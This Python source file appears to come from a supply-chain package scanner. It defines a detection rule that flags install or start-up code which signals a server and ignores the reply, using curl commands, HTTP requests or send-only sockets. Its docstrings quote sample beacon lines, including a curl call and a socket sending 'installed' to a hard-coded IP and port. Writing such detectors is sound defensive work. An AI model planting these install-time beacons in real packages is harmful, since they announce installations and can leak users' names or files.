from __future__ import annotations

import re
from collections.abc import Iterator
from urllib.parse import urlsplit

from capwatch.capabilities.shell import COMMAND_PREFIXES, program_name
from capwatch.model import (
    CapabilityUse,
    Confidence,
    Evidence,
    Fact,
    FactKind,
    Finding,
    Phase,
    Severity,
)
from capwatch.profile import Profile
from capwatch.rules.base import Rule, captures_output, command_line

_PHASES = (Phase.INSTALL, Phase.STARTUP)
_COMMAND_SEPARATORS = re.compile(r"&&|\|\||[;&\n]")
_CURL_SAVES = frozenset({"-o", "-O", "--output", "--remote-name", "--remote-name-all",
                         "--output-dir", "-J", "--remote-header-name"})
"""curl options that write what it fetches to a file."""
_PIPE_READS = frozenset({"os.popen", "platform.popen", "commands.getoutput",
                         "commands.getstatusoutput"})
"""Calls beyond :func:`captures_output`'s that give the caller what the command prints."""
_SOCKET_OPENS = frozenset({"socket.socket", "socket.create_connection"})
_SOCKET_CONNECTS = frozenset({"?.connect", "socket.create_connection"})
_SOCKET_SENDS = frozenset({"?.send", "?.sendall", "?.sendto"})
_SOCKET_READS = frozenset({"?.recv", "?.recv_into", "?.recvfrom", "?.recvfrom_into",
                           "?.recvmsg", "?.makefile"})
_HOST = re.compile(r"^(?:\d{1,3}(?:\.\d{1,3}){3}|[a-z0-9-]+(?:\.[a-z0-9-]+)+)$", re.I)
"""A host written in the code: an IPv4 address or a dotted host name."""


def _shown_only(words: list[str]) -> bool:
    """Whether a curl command leaves what it fetches on the terminal or throws it away: no
    output file (``-o``, ``-O``, a short-option cluster holding one), no redirect to a file."""
    for index, word in enumerate(words):
        if word in _CURL_SAVES or word.startswith(("--output=", "--output-dir=")):
            return False
        if word.startswith("-") and not word.startswith("--") and ("o" in word or "O" in word):
            return False
        if word.startswith((">", "1>")):
            target = word.lstrip("1>") or (words[index + 1] if index + 1 < len(words) else "")
            if target != "/dev/null":
                return False
    return True


def curl_beacon(line: str) -> str | None:
    """The address a command line asks with curl and does nothing with: not saved, not piped
    into another program, not read back (``curl https://host/installed``); ``None`` if none.
    Only an address with a path or query after the host counts (it says something)."""
    for segment in _COMMAND_SEPARATORS.split(line):
        words = segment.split("|")[-1].split()  # only a pipeline's last command prints
        while words and words[0] in COMMAND_PREFIXES:
            words = words[1:]
        if not words or program_name(words[0]).lower() != "curl" or not _shown_only(words):
            continue
        for word in words[1:]:
            url = word.strip("\"'")
            if "://" not in url:
                continue
            try:
                parts = urlsplit(url)
            except ValueError:
                continue
            if parts.netloc and (parts.path.strip("/") or parts.query):
                return url
    return None


def _shell_beacons(profile: Profile) -> list[tuple[CapabilityUse, str]]:
    """Processes started at install or start-up whose command asks an address with curl and
    leaves the answer unread, by a call that does not capture what the process prints."""
    found = []
    for use in profile.uses_of(("proc.shell", "proc.spawn"), _PHASES):
        if captures_output(use) or use.via in _PIPE_READS:
            continue
        line = command_line(use.args)
        url = curl_beacon(line) if line else None
        if url is not None:
            found.append((use, url))
    return found


class InstallBeacon(Rule):
    """Tells a server it was installed: a request at install whose reply nothing reads.

    ``urlopen("https://host/log/install")`` as a statement of its own in a custom install
    command, or ``reply = requests.post(url, data)`` with ``reply`` never read again, in
    ``install`` or ``startup`` code. A build that fetches something reads what it fetched
    (``urlretrieve`` and other downloads are not requests here); a request whose answer is
    thrown away exists only to be received: the installation announced to whoever runs the
    server, often with the user's name or files in the request. Dependency-confusion probes and
    the first stage of stealers do this; a registry treats it as malware: critical, medium
    confidence. Only a request that says something counts: a path or query after the host, a
    body, or more than one argument; a bare host asked for in a ``try`` with nothing read is a
    connectivity check. So is a command run at install or start-up that asks an address with
    ``curl`` and does nothing with the answer (``os.system("curl https://host/path")``: not
    saved with ``-o``, not piped into another program, not read back by the caller): a build
    that fetches something keeps it. So is a socket that install or start-up code opens to a
    host written in the code, sends on and never reads from, in one function
    (``s.connect(("198.51.100.7", 4444)); s.sendall(b"installed")``): a build has nothing
    to tell a bare socket. Requests of this kind in code that runs only when called
    (a client's ``requests.post`` with no answer needed) are not counted.
    """

    id = "CW122"
    title = "Announces its installation to a server"
    names_read = _SOCKET_SENDS | _SOCKET_READS  # ``s.sendall(data)``, ``s.recv(1024)``

    def check(self, profile: Profile) -> Iterator[Finding]:
        beacons = profile.facts_of(FactKind.UNREAD_REPLY, _PHASES)
        if not beacons:
            yield from self._by_command(profile) or self._by_socket(profile)
            return
        phase = min(p for _, p in beacons)
        first = next(f for f, p in beacons if p is phase)
        target = f" ({first.args[0][:80]})" if first.args and "://" in first.args[0] else ""
        yield self.finding(
            f"At {phase.label} time sends a request{target} and never reads the reply: "
            f"{', '.join(dict.fromkeys(f.name for f, _ in beacons))}",
            severity=Severity.CRITICAL,
            confidence=Confidence.MEDIUM,
            phase=phase,
            evidence=[Evidence(f.location, f.snippet, f.decode_chain) for f, _ in beacons[:5]],
            capabilities={"net.http.request"},
        )

    def _by_command(self, profile: Profile) -> list[Finding]:
        found = _shell_beacons(profile)
        if not found:
            return []
        phase = min(use.phase for use, _ in found)
        url = next(url for use, url in found if use.phase is phase)
        return [self.finding(
            f"At {phase.label} time asks {url[:80]} with curl and leaves the answer unread",
            severity=Severity.CRITICAL,
            confidence=Confidence.MEDIUM,
            phase=phase,
            evidence=[Evidence(u.location, u.snippet, u.decode_chain) for u, _ in found[:5]],
            capabilities={"net.http.request"},
        )]

    def _by_socket(self, profile: Profile) -> list[Finding]:
        found = _socket_beacons(profile)
        if not found:
            return []
        phase = min(p for _, p, _ in found)
        host = next(h for _, p, h in found if p is phase)
        return [self.finding(
            f"At {phase.label} time opens a socket to {host[:80]}, sends on it and never"
            " reads from it",
            severity=Severity.CRITICAL,
            confidence=Confidence.MEDIUM,
            phase=phase,
            evidence=[Evidence(f.location, f.snippet, f.decode_chain) for f, _, _ in found[:5]],
            capabilities={"net.socket"},
        )]


def _socket_beacons(profile: Profile) -> list[tuple[Fact, Phase, str]]:
    """Connections made at install or start-up to a host written in the code, in functions
    that send on a socket and receive nothing: each connecting call, its phase and host."""
    calls = profile.facts_of(FactKind.CALL, _PHASES)
    connects = [(f, p) for f, p in calls if f.name in _SOCKET_CONNECTS and f.args]
    if not connects:
        return []
    scopes = {f.scope for f, _ in connects}
    by_scope: dict[str, set[str]] = {}
    for fact, _ in calls:
        if fact.scope in scopes:
            by_scope.setdefault(fact.scope, set()).add(fact.name)
    found = []
    for fact, phase in connects:
        names = by_scope[fact.scope]
        if not (names & _SOCKET_OPENS and names & _SOCKET_SENDS) or names & _SOCKET_READS:
            continue
        host = (fact.args[0].split() or [""])[0]
        if _HOST.match(host) and not host.startswith(("127.", "0.")):
            found.append((fact, phase, host))
    return found
